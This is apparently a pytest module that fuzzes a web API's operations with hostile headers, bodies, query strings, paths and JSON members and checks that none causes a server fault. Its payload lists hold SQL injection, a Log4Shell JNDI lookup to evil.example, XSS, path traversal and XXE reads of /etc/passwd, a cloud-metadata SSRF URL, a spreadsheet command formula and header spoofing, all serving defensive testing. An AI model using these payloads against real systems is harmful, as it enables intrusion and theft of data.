"""Thousands of hostile requests to every operation: none is a fault of ours.

The client holds each answer against the document, so an undocumented status fails as well. What is
looked at before the operation is known (headers, raw bodies, names nobody declared) goes round:
each operation gets its share of it, and each piece goes to many operations. Those that read bytes
or headers themselves get all of it. In the suite what is declared gets a share, too, member by
member; `make check-promises` sends each of them everything (P53).
"""

import json
import re
import uuid
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from datetime import timedelta
from itertools import count
from typing import Any, TypeVar
from uuid import UUID

import pytest
from flask.testing import FlaskClient

from app.core.tokens import Tokens
from app.factory import Rooms
from app.http.server import Server
from tests.architecture.operations import Operation, operations_of
from tests.conftest import World
from tests.contract import contract_of
from tests.factories import Citizen, bearer, log_in, staff_token, verify

TEXTS = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\nSet-Cookie: a=b",
    "\ud800",
    "\u202e",
    "e\u0301",
    "𬱖" * 100,
    "x" * 5000,
    "' or 1=1 --",
    "'; drop table citizens; --",
    "%00",
    "%s%s%s%n",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "=cmd|'/c calc'!A1",
    "null",
    "undefined",
    "NaN",
    "-1",
    "1e309",
    "9" * 400,
    "٣",
    "true",
    "[]",
    "{}",
    "00000000-0000-0000-0000-000000000000",
    "\\",
    '"',
    "\u2028",
    "（）",
)
VALUES: tuple[Any, ...] = (
    None,
    True,
    0,
    -1,
    2**31,
    2**53,
    10**17,
    1.5,
    -0.0,
    [],
    {},
    [[]],
    [None],
    {"": {}},
    {"__proto__": {"admin": True}},
    {"$ne": None},
    *TEXTS,
)
BODIES = (
    b"",
    b"null",
    b"[]",
    b'""',
    b"0",
    b"{",
    b"}",
    b'{"a":1,"a":2}',
    b'{"a":NaN}',
    b"[" * 30000,
    b'{"a":' * 20000,
    b"\xff\xfe\x00",
    b"\xef\xbb\xbf{}",
    b'"' + b'\\"' * 50000,
    b"a=b&c=d",
    b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--x--",
    b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    b"9" * 5000,
    b'{"\\ud800": "\\udfff"}',
    b"\x00" * 1000,
    bytes(range(256)),
)
HEADERS: tuple[dict[str, str], ...] = (
    {"Content-Type": ""},
    {"Content-Type": "application/json; charset=utf-16"},
    {"Content-Type": "a" * 3000},
    {"Content-Type": "application/json", "Content-Encoding": "gzip"},
    {"Content-Type": "multipart/form-data"},
    {"Accept": ""},
    {"Accept": "text/html;q=abc, */*;q=-1"},
    {"Accept": "application/pdf"},
    {"Accept": "," * 500},
    {"Accept-Language": "\xff, zh;q=9"},
    {"Accept-Encoding": "*;q=0"},
    {"Authorization": "Basic " + "A" * 1000},
    {"Authorization": "Bearer " + "." * 3000},
    {"Authorization": "Bearer \xff"},
    {"Idempotency-Key": ""},
    {"Idempotency-Key": "\xff" * 20},
    {"Idempotency-Key": "a" * 5000},
    {"If-None-Match": '"' * 100},
    {"If-None-Match": "*"},
    {"If-Modified-Since": "yesterday"},
    {"If-Match": "W/"},
    {"Range": "bytes=0-,-1,5-2"},
    {"Range": "bytes=" + "0-1," * 500},
    {"Cookie": "a=b; " * 200},
    {"Host": "evil.example"},
    {"Host": "evil.example:99999"},
    {"Host": "[::1"},
    {"X-Forwarded-For": "1.2.3.4, <script>"},
    {"X-Forwarded-Host": "evil.example"},
    {"X-Forwarded-Proto": "gopher"},
    {"X-HTTP-Method-Override": "DELETE"},
    {"X-Original-URL": "/v1/ledger/transactions"},
    {"Forwarded": "for=unknown;by=_x"},
    {"Expect": "101-nothing"},
    {"Content-Length": "-1"},
    {"Content-Length": "abc"},
    {"Content-Length": "99999999999999999999"},
    {"Transfer-Encoding": "chunked, identity"},
    {"Upgrade": "h2c", "Connection": "Upgrade"},
    {"Date": "\x01"},
    {"Stripe-Signature": "t=1,v1=" + "g" * 64},
    {"Stripe-Signature": "t=" + "9" * 400 + ",v1=é"},
    {"Stripe-Signature": "," * 2000},
    {"traceparent": "00-" + "z" * 32 + "-x-01"},
)


@pytest.fixture
def verified(app: Server, world: World, rooms: Rooms) -> Citizen:
    """Return somebody new for each test, with a token that outlives it.

    Thousands of knocks last longer on a slow machine than ten minutes.
    """
    citizen = log_in(app.test_client(), world, rooms)
    verify(app.test_client(), world, citizen)
    token = rooms.deps[Tokens].issue(
        subject=citizen.id,
        session_id=UUID(citizen.session_id),
        kind="citizen",
        assurance="verified",
        lifetime=timedelta(hours=6),
    )
    return replace(citizen, token=token)


@pytest.fixture(scope="module")
def operations(app: Server) -> list[Operation]:
    """Return all but those that end the session that knocks."""
    found = [o for o in operations_of(app) if "DELETE /v1/auth" not in str(o)]
    assert len(found) > 30
    return found


# Where people write in words of their own, words that would harm elsewhere are only words.
TAKE_ANY_WORDS = {
    "POST /v1/jobs/employers",
    "POST /v1/jobs/saved-searches",
    "POST /v1/me/corrections",
    "POST /v1/sandbox/clients",
}


SURPLUS = ("surplus", "\x00", "a" * 2000)
SHARES = 4
READS_ITSELF = re.compile(r"/webhooks/|/returns$|/events$|/receipt|/statements|/services")
Piece = TypeVar("Piece")
Shows = Callable[[str], None]


def share(
    pieces: Sequence[Piece], number: int, operation: Operation, shares: int = SHARES
) -> Sequence[Piece]:
    """Return the pieces for one of many operations."""
    reads_itself = READS_ITSELF.search(operation.rule)
    return pieces if reads_itself else one_of(shares, pieces, number)


def one_of(shares: int, pieces: Sequence[Piece], number: int) -> Sequence[Piece]:
    """Return a share of the pieces; as many numbers in a row get all of them."""
    return pieces[number % shares :: shares]


@pytest.fixture
def shares(request: pytest.FixtureRequest) -> int:
    """Return into how many shares goes what is tried at each declared place."""
    return 1 if request.config.getoption("--promises") else SHARES


class Knocks:
    """Sends hostile requests, each with a fresh key, and counts what came back."""

    def __init__(self, client: FlaskClient, auth: dict[str, str]) -> None:
        self.client = client
        self.auth = auth
        self.seen: Counter[int] = Counter()
        self.made: set[str] = set()

    def knock(self, method: str, path: str, headers: dict[str, str], **more: Any) -> None:  # noqa: ANN401
        sent = {**self.auth, "Idempotency-Key": f"key-{uuid.uuid4()}", **headers}
        with self.client.open(path, method=method, headers=sent, **more) as answer:
            said = f"{method} {path[:200]} {str(headers)[:200]} {str(more)[:200]}"
            assert answer.status_code < 500 or answer.status_code == 503, said
            self.seen[answer.status_code] += 1
            if answer.status_code == 201:
                self.made.add(f"{method} {path}")

    def show(self, shows: Shows, what: str, at_least: int, *, busy: bool = False) -> None:
        """Say how many were sent; but where others are asked, nothing may be too busy."""
        assert self.seen.total() > at_least
        assert busy or self.seen[503] == 0
        faults = sum(times for status, times in self.seen.items() if status >= 500) - self.seen[503]
        shows(f"{self.seen.total()} hostile {what}: {faults} faults")


@pytest.fixture
def knocks(client: FlaskClient, verified: Citizen) -> Iterator[Knocks]:
    """Knock as somebody who is let in to the end: a 401 to everything would show nothing."""
    yield Knocks(client, verified.auth)
    assert client.get("/v1/me", headers=verified.auth).status_code == 200


@pytest.mark.promise("P53")
def test_hostile_headers(knocks: Knocks, operations: list[Operation], shows: Shows) -> None:
    for number, operation in enumerate(operations):
        for headers in share(HEADERS, number, operation):
            knocks.knock(operation.method, operation.path, headers)
    knocks.show(shows, "headers", 1000)


@pytest.mark.promise("P53")
def test_hostile_bodies(knocks: Knocks, operations: list[Operation], shows: Shows) -> None:
    writing = [o for o in operations if o.method != "GET"]
    for number, operation in enumerate(writing):
        for body in share(BODIES, number, operation):
            for kind in ("application/json", "text/csv"):
                knocks.knock(operation.method, operation.path, {"Content-Type": kind}, data=body)
    knocks.show(shows, "bodies", 300)


@pytest.mark.promise("P53")
def test_hostile_members(
    app: Server, knocks: Knocks, operations: list[Operation], shares: int, shows: Shows
) -> None:
    """Each member of each body holds hostile values, the others what they should."""
    numbers = count()
    for operation in operations:
        for body in hostile_bodies(app, operation, shares, numbers):
            raw = json.dumps(body).encode()
            headers = {"Content-Type": "application/json"}
            knocks.knock(operation.method, operation.path, headers, data=raw)
    assert knocks.made <= TAKE_ANY_WORDS
    knocks.show(shows, "members of bodies", 500, busy=True)


@pytest.mark.promise("P53")
def test_hostile_queries(
    app: Server, knocks: Knocks, operations: list[Operation], shares: int, shows: Shows
) -> None:
    undeclared = [(name, text) for name in SURPLUS for text in TEXTS]
    rounds = SHARES if shares == 1 else SHARES * len(SURPLUS)
    numbers = count()
    for number, operation in enumerate(operations):
        declared = [
            (name, text)
            for name in query_names(app, operation)
            for text in one_of(shares, TEXTS, next(numbers))
        ]
        surplus = share(undeclared, number, operation, rounds)
        for name, text in (*declared, *surplus):
            value = text.encode("utf-8", "surrogatepass")
            knocks.knock(operation.method, operation.path, {}, query_string={name: value})
    knocks.show(shows, "arguments", 3000)


@pytest.mark.promise("P53")
def test_hostile_paths(
    knocks: Knocks, operations: list[Operation], shares: int, shows: Shows
) -> None:
    with_places = [o for o in operations if "<" in o.rule]
    assert len(with_places) > 10
    for number, operation in enumerate(with_places):
        for text in one_of(shares, TEXTS, number):
            raw = "".join(f"%{byte:02x}" for byte in text.encode("utf-8", "surrogatepass"))
            path = re.sub(r"<[^>]+>", lambda _, raw=raw: raw, operation.rule)
            knocks.knock(operation.method, path, {})
    knocks.show(shows, "addresses", 300)


@pytest.mark.promise("P53")
def test_hostile_staff(
    client: FlaskClient,
    operations: list[Operation],
    rooms: Rooms,
    shares: int,
    shows: Shows,
) -> None:
    operator = staff_token(rooms, "department-operator", "water-bureau")
    knocks = Knocks(client, bearer(operator)), Knocks(client, bearer(staff_token(rooms, "finance")))
    for number, operation in enumerate(operations):
        for body in share(BODIES, number // 2, operation):
            for kind in ("application/json", "text/csv"):
                headers = {"Content-Type": kind}
                # In the suite each operation is for one of the two.
                for one in knocks if shares == 1 else [knocks[number % 2]]:
                    one.knock(operation.method, operation.path, headers, data=body)
    for one in knocks:
        one.show(shows, "bodies from staff", 300)


def query_names(app: Server, operation: Operation) -> list[str]:
    spec = contract_of(app).spec
    found = spec["paths"].get(operation.template, {}).get(operation.method.lower(), {})
    return [p["name"] for p in found.get("parameters", ()) if p.get("in") == "query"]


def hostile_bodies(
    app: Server, operation: Operation, shares: int, numbers: Iterator[int]
) -> Iterator[Any]:
    spec = contract_of(app).spec
    found = spec["paths"].get(operation.template, {}).get(operation.method.lower(), {})
    content = found.get("requestBody", {}).get("content", {}).get("application/json")
    if content is None or "$ref" not in content["schema"]:
        return
    good = example(spec, content["schema"])
    for place in places(good):
        for value in one_of(shares, VALUES, next(numbers)):
            yield replaced(good, place, value)


def example(spec: dict[str, Any], schema: dict[str, Any]) -> Any:  # noqa: ANN401 - any JSON value
    """Return a value of a schema's shape; it need not be a good one."""
    if "$ref" in schema:
        schema = spec["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
    if "properties" in schema:
        return {name: example(spec, inner) for name, inner in schema["properties"].items()}
    kind = schema.get("type")
    if kind == "array":
        return [example(spec, schema["items"])]
    if "enum" in schema:
        return schema["enum"][0]
    if kind == "string" and schema.get("format") == "uuid":
        return str(uuid.uuid4())
    return schema.get("examples", [0 if kind == "integer" else "water-bill"])[0]


def places(value: Any, before: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:  # noqa: ANN401
    """Yield the path of every member and element."""
    inner = value.items() if isinstance(value, dict) else enumerate(value)
    for name, member in inner:
        yield (*before, name)
        if isinstance(member, dict | list):
            yield from places(member, (*before, name))


def replaced(value: Any, place: tuple[Any, ...], new: Any) -> Any:  # noqa: ANN401 - JSON
    """Return a copy in which one member is another."""
    copy = json.loads(json.dumps(value))
    target = copy
    for name in place[:-1]:
        target = target[name]
    target[place[-1]] = new
    return copy
